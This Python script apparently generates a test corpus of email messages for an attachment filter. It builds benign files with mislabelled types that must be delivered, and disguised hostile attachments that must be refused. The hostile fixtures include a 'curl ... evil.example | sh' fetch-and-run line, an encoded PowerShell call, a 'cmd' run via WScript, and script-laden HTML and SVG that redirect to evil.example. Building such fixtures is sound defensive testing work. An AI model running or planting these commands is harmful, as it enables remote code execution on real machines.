#!/usr/bin/env python3
"""Write the mislabelling corpus: Tests/FilterTests/Corpus/mislabelled/NAME.eml and expected.tsv.

Two sets of messages, each with one attachment (or one signed/encrypted part):
- benign-*: what real senders send every day under names and Content-Types that disagree with
  the content (Windows calls a CSV application/vnd.ms-excel, a .docx saved as .doc, a PNG
  named .jpg, HEIC as octet-stream, winmail.dat, S/MIME and PGP parts, calendar and contact
  files). With the default policy every one must be delivered as clean.
- hostile-*: disguises that must still be refused (an .exe named .pdf, a script declared
  text/plain, a shortcut, a macro-enabled document named .docx, HTML with script named .txt,
  a zip with an .exe inside named .jpg). expected.tsv names a rule the refusal must cite.

Standard library only, except the S/MIME and PGP parts, which openssl and gpg make for real
(their bytes change on every run; everything else is deterministic).
Usage: generate_mislabel_corpus.py [OUTPUT_DIR]
"""

import os
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "mime"))
sys.path.insert(0, HERE)

from corpus import payloads  # noqa: E402
from corpus.builder import Part, b64, envelope, hash_str  # noqa: E402
import formats  # noqa: E402

CASES = []  # (name, build, expected): expected is "clean" or a rule the reply must name


def case(name, expected="clean"):
    def register(fn):
        def build():
            payloads.reseed(hash_str(name))
            return fn()
        CASES.append((name, build, expected))
        return fn
    return register


def attached(subject, data, filename, ctype, disposition="attachment", text="Please find the file attached.\n"):
    """A multipart/mixed message: a short text, then `data` as a base64 attachment."""
    params = '; name="%s"' % filename if filename else ""
    headers = [("Content-Type", ctype + params), ("Content-Transfer-Encoding", "base64")]
    if filename:
        headers.insert(1, ("Content-Disposition", '%s; filename="%s"' % (disposition, filename)))
    body = Part([("Content-Type", "text/plain; charset=utf-8")], text)
    return Part(envelope(subject) + [("Content-Type", 'multipart/mixed; boundary="=_mix"')],
                children=[body, Part(headers, b64(data))], boundary="=_mix").render()


def benign(name, data_fn, filename, ctype):
    case("benign-" + name)(lambda: attached(name.replace("-", " "), data_fn(), filename, ctype))


def hostile(name, expected, data_fn, filename, ctype):
    case("hostile-" + name, expected)(lambda: attached(name.replace("-", " "), data_fn(), filename, ctype))


def csv():
    return payloads.csv_text().replace("\n", "\r\n").encode()


def text():
    return payloads.prose(8).encode()


OCTET = "application/octet-stream"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"

# --- Office documents under their old and new names and the types clients give them ---
benign("csv-as-windows-excel", csv, "export.csv", "application/vnd.ms-excel")
benign("csv-as-comma-separated-values", csv, "export.csv", "text/comma-separated-values")
benign("csv-as-octet-stream", csv, "Report 2026-03.csv", OCTET)
benign("csv-as-text-csv", csv, "export.csv", "text/csv")
benign("csv-as-x-csv", csv, "export.csv", "text/x-csv")
benign("docx-named-doc", lambda: formats.ooxml("word"), "Letter.doc", "application/msword")
benign("docx-named-doc-declared-docx", lambda: formats.ooxml("word"), "Letter.doc", DOCX)
benign("docx-as-zip", lambda: formats.ooxml("word"), "Contract.docx", "application/zip")
benign("docx-as-msword", lambda: formats.ooxml("word"), "Contract.docx", "application/msword")
benign("docx-as-octet-stream", lambda: formats.ooxml("word"), "Contract.docx", OCTET)
benign("docx-as-macro-enabled-type", lambda: formats.ooxml("word"), "Contract.docx",
       "application/vnd.ms-word.document.macroEnabled.12")
benign("xlsx-named-xls", lambda: formats.ooxml("xl"), "Budget.xls", "application/vnd.ms-excel")
benign("xlsx-as-windows-excel", lambda: formats.ooxml("xl"), "Budget.xlsx", "application/vnd.ms-excel")
benign("xlsx-as-x-zip-compressed", lambda: formats.ooxml("xl"), "Budget.xlsx", "application/x-zip-compressed")
benign("xlsm-without-macros", lambda: formats.ooxml("xl"), "Budget.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12")
benign("pptx-named-ppt", lambda: formats.ooxml("ppt"), "Slides.ppt", "application/vnd.ms-powerpoint")
benign("pptx-as-zip", lambda: formats.ooxml("ppt"), "Slides.pptx", "application/zip")
benign("doc-named-docx", lambda: formats.ole_word(), "Minutes.docx", DOCX)
benign("doc-as-octet-stream", lambda: formats.ole_word(), "Minutes.doc", OCTET)
benign("doc-named-xls", lambda: formats.ole_word(), "Minutes.xls", "application/vnd.ms-excel")
benign("rtf-named-doc", lambda: b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 " + payloads.prose(3).encode() + b"}\n",
       "Memo.doc", "application/msword")
benign("odt-as-zip", formats.odt, "Report.odt", "application/zip")
benign("msg-as-octet-stream", formats.outlook_msg, "Quarterly review.msg", OCTET)
benign("pdf-as-octet-stream", lambda: payloads.pdf(), "Invoice 2026.03.pdf", OCTET)
benign("pdf-as-x-pdf", lambda: payloads.pdf(), "invoice.PDF", "application/x-pdf")
benign("pdf-as-acrobat", lambda: payloads.pdf(), "invoice.pdf", "application/acrobat")

# --- images: phones, cameras, browsers, Windows ---
benign("png-named-jpg", lambda: payloads.png(), "photo.jpg", "image/jpeg")
benign("jpeg-declared-png", formats.jpeg, "photo.png", "image/png")
benign("jpeg-as-pjpeg", formats.jpeg, "IMG_0042.JPG", "image/pjpeg")
benign("jpeg-as-image-jpg", formats.jpeg, "scan.jpeg", "image/jpg")
benign("png-as-x-png", lambda: payloads.png(), "screenshot.png", "image/x-png")
benign("gif-named-png", payloads.gif, "logo.png", "image/png")
benign("bmp-named-jpg", formats.bmp, "drawing.jpg", "image/jpeg")
benign("webp-named-jpg", formats.webp, "download.jpg", "image/jpeg")
benign("heic-as-heif", formats.heic, "IMG_1234.HEIC", "image/heif")
benign("heic-as-octet-stream", formats.heic, "IMG_1234.HEIC", OCTET)
benign("heic-named-jpg", formats.heic, "IMG_1234.jpg", "image/jpeg")
benign("svg-without-script-as-xml", lambda: b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>\n',
       "logo.svg", "text/xml")

# --- text-like formats ---
benign("text-declared-png", text, "notes.txt", "image/png")
benign("text-as-octet-stream", text, "README", OCTET)
benign("markdown-as-octet-stream", lambda: b"# Notes\n\n" + text(), "notes.md", OCTET)
benign("json-as-text-plain", lambda: b'{"invoice": 42, "items": ["a", "b"]}\n', "order.json", "text/plain")
benign("xml-as-text-plain", lambda: b'<?xml version="1.0"?>\n<order id="42"><item>a</item></order>\n', "order.xml", "text/plain")
benign("html-without-script-as-text", lambda: payloads.html(payloads.prose(3)).encode(), "newsletter.htm", "text/plain")
benign("log-named-txt-declared-pdf", text, "server.log", "application/pdf")
case("benign-html-newsletter-body-declared-text")(lambda: attached(
    "newsletter", b'<!DOCTYPE html>\n<html><body onload="track()"><p>' + payloads.prose(2).encode() + b"</p></body></html>\n",
    None, "text/plain", text="This month's news.\n"))

# --- archives and compressed files ---
def zip_of_documents():
    return payloads.zip_bytes({"report.pdf": payloads.pdf(), "data.csv": csv(), "photo.jpg": formats.jpeg()})


benign("zip-as-x-zip-compressed", zip_of_documents, "Documents.zip", "application/x-zip-compressed")
benign("zip-as-octet-stream", zip_of_documents, "Archive.zip", OCTET)
benign("zip-as-multipart-x-zip", zip_of_documents, "files.zip", "multipart/x-zip")
benign("tgz-as-x-compressed", lambda: payloads.gz(b"data.csv\x00" + b"\x00" * 511), "backup.tgz", "application/x-compressed")
benign("csv-gz-as-x-gzip", lambda: payloads.gz(csv()), "export.csv.gz", "application/x-gzip")
benign("gzip-named-tar", lambda: payloads.gz(csv()), "logs.tar", "application/x-tar")
benign("zip-named-docx-by-a-portal", zip_of_documents, "documents.docx", DOCX)

# --- mail formats: TNEF, calendar, contacts ---
benign("winmail-dat-as-ms-tnef", formats.tnef, "winmail.dat", "application/ms-tnef")
benign("winmail-dat-as-vnd-ms-tnef", formats.tnef, "winmail.dat", "application/vnd.ms-tnef")
benign("ics-as-application-ics", lambda: payloads.ics().encode(), "invite.ics", "application/ics")
benign("ics-as-octet-stream", lambda: payloads.ics().encode(), "invite.ics", OCTET)
benign("vcf-as-x-vcard", lambda: payloads.vcard().encode(), "Carol Example.vcf", "text/x-vcard")
benign("vcf-as-octet-stream", lambda: payloads.vcard().encode(), "contact.vcf", OCTET)
benign("vcf-as-directory", lambda: payloads.vcard().encode(), "contact.vcf", "text/directory")


@case("benign-calendar-invite-inline")
def _():
    alt = Part([("Content-Type", 'multipart/alternative; boundary="=_alt"')], children=[
        Part([("Content-Type", "text/plain; charset=utf-8")], "Quarterly review, Tuesday 9:00.\n"),
        Part([("Content-Type", "text/calendar; charset=utf-8; method=REQUEST"), ("Content-Transfer-Encoding", "base64")],
             b64(payloads.ics().encode()))], boundary="=_alt")
    return Part(envelope("Invitation: quarterly review") + [("Content-Type", 'multipart/mixed; boundary="=_mix"')],
                children=[alt, Part([("Content-Type", 'application/ics; name="invite.ics"'),
                                     ("Content-Disposition", 'attachment; filename="invite.ics"'),
                                     ("Content-Transfer-Encoding", "base64")], b64(payloads.ics().encode()))],
                boundary="=_mix").render()


# --- S/MIME and PGP, made by openssl and gpg ---
def run(args, cwd, stdin=None):
    subprocess.run(args, cwd=cwd, input=stdin, check=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def smime(kind):
    with tempfile.TemporaryDirectory() as d:
        run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "key.pem", "-out", "cert.pem",
             "-subj", "/CN=alice@example.org", "-days", "365"], d)
        with open(os.path.join(d, "body.txt"), "wb") as f:
            f.write(b"Content-Type: text/plain\r\n\r\nSigned report.\r\n")
        if kind == "sign":
            run(["openssl", "cms", "-sign", "-binary", "-in", "body.txt", "-signer", "cert.pem", "-inkey", "key.pem",
                 "-outform", "DER", "-out", "out.p7"], d)
        else:
            run(["openssl", "cms", "-encrypt", "-binary", "-aes256", "-in", "body.txt", "-outform", "DER", "-out", "out.p7",
                 "cert.pem"], d)
        with open(os.path.join(d, "out.p7"), "rb") as f:
            return f.read()


def pgp(kind):
    with tempfile.TemporaryDirectory() as d:
        env = ["gpg", "--homedir", d, "--batch", "--yes", "--pinentry-mode", "loopback", "--passphrase", ""]
        run(env + ["--quick-gen-key", "Alice <alice@example.org>", "ed25519", "sign", "1d"], d)
        with open(os.path.join(d, "body.txt"), "wb") as f:
            f.write(b"Content-Type: text/plain\r\n\r\nSigned report.\r\n")
        if kind == "sign":
            run(env + ["--armor", "--detach-sign", "-o", "out.asc", "body.txt"], d)
        elif kind == "keys":
            run(env + ["--armor", "--export", "-o", "out.asc", "alice@example.org"], d)
        else:
            run(env + ["--armor", "--symmetric", "--passphrase", "x", "-o", "out.asc", "body.txt"], d)
        with open(os.path.join(d, "out.asc"), "rb") as f:
            return f.read()


def signed(subject, protocol, sig_type, sig_name, signature, encode=True):
    content = Part([("Content-Type", "text/plain")], "Signed report.\n")
    sig_headers = [("Content-Type", '%s; name="%s"' % (sig_type, sig_name)),
                   ("Content-Disposition", 'attachment; filename="%s"' % sig_name)]
    sig = Part(sig_headers + [("Content-Transfer-Encoding", "base64")], b64(signature)) if encode else Part(sig_headers, signature)
    return Part(envelope(subject) + [("Content-Type", 'multipart/signed; protocol="%s"; micalg=sha-256; boundary="=_sig"' % protocol)],
                children=[content, sig], boundary="=_sig").render()


case("benign-smime-signature")(lambda: signed("signed", "application/pkcs7-signature", "application/pkcs7-signature",
                                              "smime.p7s", smime("sign")))
case("benign-smime-signature-old-outlook")(lambda: signed("signed", "application/x-pkcs7-signature",
                                                          "application/x-pkcs7-signature", "smime.p7s", smime("sign")))


@case("benign-smime-encrypted")
def _():
    return Part(envelope("encrypted") + [("Content-Type", 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"'),
                                         ("Content-Disposition", 'attachment; filename="smime.p7m"'),
                                         ("Content-Transfer-Encoding", "base64")], b64(smime("encrypt"))).render()


case("benign-pgp-signature")(lambda: signed("signed", "application/pgp-signature", "application/pgp-signature",
                                            "signature.asc", pgp("sign"), encode=False))
case("benign-pgp-public-key")(lambda: attached("my key", pgp("keys"), "0xA1B2C3D4.asc", "application/pgp-keys"))


@case("benign-pgp-encrypted")
def _():
    return Part(envelope("encrypted") + [("Content-Type", 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="=_enc"')],
                children=[Part([("Content-Type", "application/pgp-encrypted")], "Version: 1\n"),
                          Part([("Content-Type", 'application/octet-stream; name="encrypted.asc"'),
                                ("Content-Disposition", 'inline; filename="encrypted.asc"')], pgp("encrypt"))],
                boundary="=_enc").render()


# --- hostile disguises: still refused ---
def zip_with(name, data):
    return payloads.zip_bytes({name: data})


SCRIPT_HTML = (b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body>\n<p>Loading your invoice...</p>\n"
               b"<script>var b = atob('TVqQAAMAAAAEAAAA'); location.href = 'https://evil.example/x';</script>\n</body></html>\n")
SCRIPT_SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
              b'<script type="text/javascript">window.location="https://evil.example/";</script><rect width="10" height="10"/></svg>\n')

hostile("exe-named-pdf", "banned-type:pe-executable", lambda: payloads.exe(), "invoice.pdf", "application/pdf")
hostile("exe-named-jpg", "banned-type:pe-executable", lambda: payloads.exe(), "holiday.jpg", "image/jpeg")
hostile("exe-as-octet-stream-named-docx", "banned-type:pe-executable", lambda: payloads.exe(), "CV.docx", OCTET)
hostile("elf-named-pdf", "banned-type:elf-executable", formats.elf, "statement.pdf", "application/pdf")
hostile("shell-script-declared-text", "banned-type:script", lambda: b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n",
        "notes.txt", "text/plain")
hostile("batch-declared-text", "banned-type:script", lambda: b"@echo off\r\npowershell -enc AAAA\r\n", "readme.txt", "text/plain")
hostile("python-script-named-pdf", "banned-type:script", lambda: b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
        "report.pdf", "application/pdf")
hostile("lnk-named-pdf", "banned-type:shortcut", formats.lnk, "document.pdf", "application/pdf")
hostile("iso-named-pdf", "banned-type:disk-image", formats.iso, "invoice.pdf", "application/pdf")
hostile("chm-named-pdf", "banned-type:compiled-help", formats.chm, "manual.pdf", "application/pdf")
hostile("jar-named-pdf", "type-mismatch:pdf-is-java", formats.jar, "invoice.pdf", "application/pdf")
hostile("macro-doc-named-docx", "type-mismatch:word-ooxml-is-", lambda: formats.ole_word(macros=True), "Invoice.docx", DOCX)
hostile("docm-named-docx", "type-mismatch:word-ooxml-is-word-macro", lambda: formats.ooxml("word", macros=True), "Invoice.docx", DOCX)
hostile("xlsm-named-xlsx", "type-mismatch:excel-ooxml-is-excel-macro", lambda: formats.ooxml("xl", macros=True), "Budget.xlsx", XLSX)
hostile("docm-named-pdf", "type-mismatch:pdf-is-word-macro", lambda: formats.ooxml("word", macros=True), "Invoice.pdf", OCTET)
hostile("html-script-named-txt", "type-mismatch:text-is-html-script", lambda: SCRIPT_HTML, "invoice.txt", "text/plain")
hostile("html-script-named-pdf", "type-mismatch:pdf-is-html-script", lambda: SCRIPT_HTML, "invoice.pdf", "application/pdf")
hostile("svg-script-named-png", "type-mismatch:png-is-svg-script", lambda: SCRIPT_SVG, "chart.png", "image/png")
hostile("zip-with-exe-named-jpg", "banned-extension:exe", lambda: zip_with("setup.exe", payloads.exe()), "holiday.jpg", "image/jpeg")
hostile("zip-with-js-named-pdf", "banned-extension:js", lambda: zip_with("invoice.js", b"WScript.Shell.Run('cmd');\n"),
        "invoice.pdf", "application/pdf")
hostile("zip-with-lnk-named-docx", "banned-type:shortcut", lambda: zip_with("Invoice.pdf", formats.lnk()), "Invoice.docx", DOCX)


def main():
    root = os.path.dirname(os.path.dirname(HERE))
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(root, "Tests", "FilterTests", "Corpus", "mislabelled")
    os.makedirs(out, exist_ok=True)
    names = [name for name, _, _ in CASES]
    if len(set(names)) != len(names):
        sys.exit("generate_mislabel_corpus: duplicate names")
    for name, build, _ in CASES:
        with open(os.path.join(out, name + ".eml"), "wb") as f:
            f.write(build())
    with open(os.path.join(out, "expected.tsv"), "w") as f:
        f.write("# message\texpected: clean, or a rule the refusal must name (a prefix)\n")
        for name, _, expected in CASES:
            f.write("%s\t%s\n" % (name, expected))
    for stale in os.listdir(out):
        if stale.endswith(".eml") and stale[:-4] not in names:
            os.remove(os.path.join(out, stale))
    benign_count = sum(1 for n in names if n.startswith("benign-"))
    print("generate_mislabel_corpus: %d benign, %d hostile in %s" % (benign_count, len(names) - benign_count, out))


if __name__ == "__main__":
    main()
